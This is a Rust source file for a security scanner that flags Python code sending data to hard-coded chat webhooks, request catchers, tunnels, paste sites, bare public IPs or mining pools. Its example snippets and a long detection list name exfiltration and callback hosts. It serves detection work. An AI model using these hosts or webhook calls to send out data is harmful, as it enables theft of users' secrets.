//! Addresses that say who receives: webhooks, catchers of requests, machines without a name.

use super::CallSite;
use super::intent::PY_MINER;
use crate::scan::finding::{Category, Intent, Severity};
use crate::scan::python::source::Hit;
use crate::scan::rules::{Example, Rule};

pub(in crate::scan) const RULES: &[Rule] = &[PY_WEBHOOK, PY_CATCHER, PY_BARE_ADDRESS];

pub(in crate::scan) const PY_WEBHOOK: Rule = Rule {
    id: "py-webhook",
    category: Category::Ssrf,
    severity: Severity::High,
    intent: Some(Intent::Webhook),
    reason: "Data goes to a webhook that is written in the source.",
    why: "Stolen data goes to chat services since nobody blocks them.",
    fix: "Let the user name the webhook, or do not run this node.",
    examples: &[
        Example::found(
            "import urllib.request as u\nu.urlopen(u.Request('https://discord.com/api/webhooks/x', data=b''))\n",
        ),
        Example::found(
            "import requests\nrequests.get(f'https://api.telegram.org/bot{t}/sendMessage')\n",
        ),
        Example::twin("import requests\nrequests.get('https://discord.com/invite/x')\n"),
        Example::twin("print('https://discord.com/api/webhooks/…')\n"),
    ],
};

pub(in crate::scan) const PY_CATCHER: Rule = Rule {
    id: "py-catcher",
    category: Category::Ssrf,
    severity: Severity::High,
    intent: Some(Intent::Webhook),
    reason: "Data goes to a catcher of requests, a tunnel or a paste.",
    why: "Such hosts hide who receives.",
    fix: "Do not run this node.",
    examples: &[
        Example::found("import requests\nrequests.post('https://webhook.site/x', data='')\n"),
        Example::twin("import requests\nrequests.post('https://example.org/x', data='')\n"),
    ],
};

pub(in crate::scan) const PY_BARE_ADDRESS: Rule = Rule {
    id: "py-bare-address",
    category: Category::Ssrf,
    severity: Severity::Medium,
    intent: None,
    reason: "The code connects to a machine that has no name.",
    why: "An address without a name has no certificate that says whose it is, and moves from day to day.",
    fix: "Use the host's name with https://.",
    examples: &[
        Example::found("import requests\nrequests.get('https://145.249.104.71/x')\n"),
        Example::twin("import requests\nrequests.get('http://127.0.0.1:8188/x')\n"),
        Example::twin("import requests\nrequests.get('http://192.168.1.2/x')\n"),
    ],
};

/// What the texts in a network call's arguments show.
pub(in crate::scan::python) fn judge_addresses(call: &CallSite<'_>) -> Option<Hit> {
    let mut texts = Vec::new();
    for value in call.all() {
        collect_texts(value, 0, &mut texts);
    }
    texts.iter().find_map(|t| judge_address(t))
}

/// The host of a URL, if it is a number of the public net.
fn bare_address(text: &str) -> Option<&str> {
    let (scheme, rest) = text.split_once("://")?;
    if !matches!(scheme, "http" | "https" | "ws" | "wss" | "ftp" | "tcp") {
        return None;
    }
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    if let Some(inner) = host.strip_prefix('[') {
        let address: core::net::Ipv6Addr = inner.split(']').next()?.parse().ok()?;
        return (!address.is_loopback() && !address.is_unspecified()).then_some(host);
    }
    let host = host.split(':').next()?;
    let address: core::net::Ipv4Addr = host.parse().ok()?;
    let near = address.is_loopback()
        || address.is_private()
        || address.is_unspecified()
        || address.is_link_local();
    (!near).then_some(host)
}

fn collect_texts(value: &super::Value, depth: u8, texts: &mut Vec<String>) {
    use crate::scan::python::values::What;
    if let Some(text) = value.as_text() {
        texts.push(text.to_ascii_lowercase());
    }
    if depth > 2 {
        return;
    }
    match &value.what {
        What::List(items, _) => items
            .iter()
            .for_each(|v| collect_texts(v, depth + 1, texts)),
        What::Dict(items, _) => items
            .iter()
            .for_each(|(_, v)| collect_texts(v, depth + 1, texts)),
        _ => {}
    }
}

fn judge_address(text: &str) -> Option<Hit> {
    let has = |w: &str| text.contains(w);
    if has("stratum+tcp") || has("stratum+ssl") {
        return Some(Hit::of(&PY_MINER, "The code connects to a pool of miners."));
    }
    let webhook = has("discord.com/api/webhooks/")
        || has("discordapp.com/api/webhooks/")
        || has("canary.discord.com/api/webhooks")
        || has("api.telegram.org/bot")
        || has("hooks.slack.com/services/")
        || has("hooks.slack.com/workflows/");
    if webhook {
        return Some(Hit::of(
            &PY_WEBHOOK,
            "Data goes to a webhook that is written in the source.",
        ));
    }
    const CATCHERS: &[&str] = &[
        "webhook.site",
        "requestbin",
        "pipedream.net",
        ".ngrok.io",
        ".ngrok-free.app",
        ".ngrok.app",
        "burpcollaborator.net",
        "oastify.com",
        ".oast.",
        "interact.sh",
        "requestcatcher.com",
        "beeceptor.com",
        "hookbin.com",
        "canarytokens.com",
        "ptsv2.com",
        ".trycloudflare.com",
        "serveo.net",
        "pastebin.com/raw",
        "paste.ee/r/",
        "rentry.co/",
        "hastebin.com/raw",
        "transfer.sh",
        "anonfiles.com",
        "gofile.io",
        "file.io",
        "0x0.st",
        "grabify.link",
        "iplogger.",
        "api.ipify.org",
        "ifconfig.me",
        "dpaste.com",
        "cdn.discordapp.com/attachments",
        "catbox.moe",
        "bashupload.com",
        "dnslog.cn",
        "ceye.io",
        ".onion",
        "bit.ly/",
    ];
    if let Some(host) = bare_address(text) {
        return Some(Hit::of(
            &PY_BARE_ADDRESS,
            format!("The code connects to {host}, an address without a name."),
        ));
    }
    let catcher = CATCHERS
        .iter()
        .find(|c| text.starts_with("http") && has(c) || text.ends_with(*c))?;
    let quiet = matches!(
        *catcher,
        "api.ipify.org" | "ifconfig.me" | "catbox.moe" | "file.io" | "gofile.io"
    );
    let hit = Hit::of(
        &PY_CATCHER,
        format!("The code connects to {catcher}, which hides who receives."),
    );
    Some(if quiet { hit.at(Severity::Medium) } else { hit })
}
